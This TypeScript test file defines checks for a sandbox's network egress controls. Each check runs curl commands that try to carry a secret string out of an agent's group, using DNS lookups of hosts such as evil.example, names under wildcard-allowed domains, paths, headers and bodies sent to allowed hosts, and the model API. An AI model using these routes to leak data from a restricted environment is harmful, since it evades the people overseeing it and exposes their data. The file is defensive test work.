/**
 * The ways in which an agent could carry data out of its group: names, addresses, the model. The
 * internet is a double that records what reached it.
 */

import type { Internet } from '../internet/internet.ts';
import type { WebHost } from '../internet/web-host.ts';
import type { App } from '../support/app.ts';
import type { Check } from './check.ts';

const area = 'exfiltration';

/** Starts the double. Mallory's group may reach `listed.example` and `*.wild.example`. */
export interface Outside {
  internet: Internet;
  listed: WebHost;
  app: App;
}

/** An attempt, and whether it reached anybody according to the double. */
export interface Exfiltration extends Check {
  reached: (outside: Outside) => boolean;
}

const secretWord = 'carried-out-0123456789';

/** Ignores the answers; the double records what arrived. */
const tries = (urls: string[]) => ({
  language: 'bash' as const,
  code: `${urls.map((url) => `curl -s -m 10 "${url}" -o answer -w '%{http_code} %{http_connect}\\n'`).join('\n')}\ntrue`,
});
const asked = ({ internet }: Outside) =>
  internet.names.queries.some((query) => query.includes(secretWord));

export const exfiltrationChecks: Exfiltration[] = [
  {
    id: 'names-not-listed',
    area,
    says: 'carry anything to a name server by the names of hosts that its group may not reach',
    program: tries([
      `http://${secretWord}.evil.example/`,
      `https://${secretWord}.evil.example/`,
      `http://${secretWord}.listed.example.evil.example/`,
      `https://${secretWord}.example:8443/`,
    ]),
    reached: asked,
  },
  {
    id: 'names-below-wildcard',
    area,
    says: 'carry anything to a name server by names below a host that is allowed as `*.`',
    open: {
      any: 'Each name is looked up, and whoever answers for that domain sees it. Allow hosts by their full names where that matters.',
    },
    program: tries([`https://${secretWord}.wild.example/`]),
    reached: asked,
  },
  {
    id: 'paths-of-allowed',
    area,
    says: 'carry anything to a host that is allowed, in a path, a header or a body',
    open: {
      any: 'What is said inside a permitted connection is not read, and with HTTPS cannot be. Allow only hosts whose owners may know what the group knows; /egress tells how many bytes went.',
    },
    program: {
      language: 'bash',
      code: `curl -s -m 10 "http://listed.example/${secretWord}" -H "x-more: ${secretWord}" -d "${secretWord}" -w '%{http_code}\\n'`,
    },
    reached: ({ listed }) => listed.requests.some(({ path }) => path.includes(secretWord)),
  },
  {
    id: 'model-api',
    area,
    says: 'carry anything to the model’s API',
    open: {
      any: 'The conversation itself goes there, with all that the agent puts into it. It goes with your own credential, and nowhere else.',
    },
    program: {
      language: 'bash',
      code: `curl -s -m 10 "$ANTHROPIC_BASE_URL/v1/messages" -d '{"model":"m","messages":[{"role":"user","content":"${secretWord}"}]}' -w '%{http_code}\\n'`,
    },
    reached: ({ app }) => app.model.calls.some(({ said }) => said === secretWord),
  },
];
